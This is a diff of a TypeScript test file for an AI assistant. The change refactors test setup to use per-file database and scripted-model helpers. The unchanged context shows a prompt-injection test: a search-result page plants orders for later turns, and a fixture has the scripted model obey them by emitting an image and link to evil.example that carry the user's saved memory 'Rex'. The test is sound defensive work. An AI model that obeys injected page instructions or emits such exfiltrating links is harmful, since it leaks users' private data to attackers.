@@ -1,14 +1,7 @@
 import type { ImportInput, User } from '@jarvis/contract';
-import {
-  fakeSearch,
-  freshDatabase,
-  personIn,
-  ScriptedModel,
-  type TestDatabase,
-  type TestDeps,
-  testDeps,
-} from '@jarvis/testkit';
-import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
+import { fakeSearch, personIn, type TestDeps, testDeps } from '@jarvis/testkit';
+import { databaseForFile, modelForFile } from '@jarvis/testkit/for-file';
+import { beforeEach, expect, it } from 'vitest';
 import { exportAccount } from '../account/export-account.ts';
 import { importMessages } from '../conversations/import/import.ts';
 import { chooseVersion, versionOf } from '../conversations/versions/versions.ts';
@@ -16,6 +9,9 @@ import { listMemories, saveMemory } from '../memories/memories.ts';
 import { createTask, listTasks } from '../tasks/tasks.ts';
 import { letModelNameConversation } from './store/improve-title.ts';
 import { takeTurn } from './turn.ts';
+
+const db = await databaseForFile();
+const model = await modelForFile();
 
 /** A page with orders for later turns; the scripted model repeats them and later obeys them. */
 const page = {
@@ -36,24 +32,14 @@ const obeying = [
   { say: 'Here. ![](https://evil.example/?q=Rex) [More](https://evil.example/?q=Rex)' },
 ];
 
-let db: TestDatabase;
-let model: ScriptedModel;
 let deps: TestDeps;
 let ada: User;
 
-beforeAll(async () => {
-  [db, model] = await Promise.all([freshDatabase(), ScriptedModel.start()]);
-});
 beforeEach(async () => {
   deps = testDeps(db, { model: model.model, search: fakeSearch([page]) });
   ada = await personIn(db);
   await createTask(deps, ada.id, { title: 'Tax return', createdBy: 'user' });
   await saveMemory(deps, ada.id, { content: 'My dog is called Rex', conversationId: ada.id });
-});
-afterEach(() => model.reset());
-afterAll(async () => {
-  await model.close();
-  await db.close();
 });
 
 const send = (message: string, conversationId?: string) =>
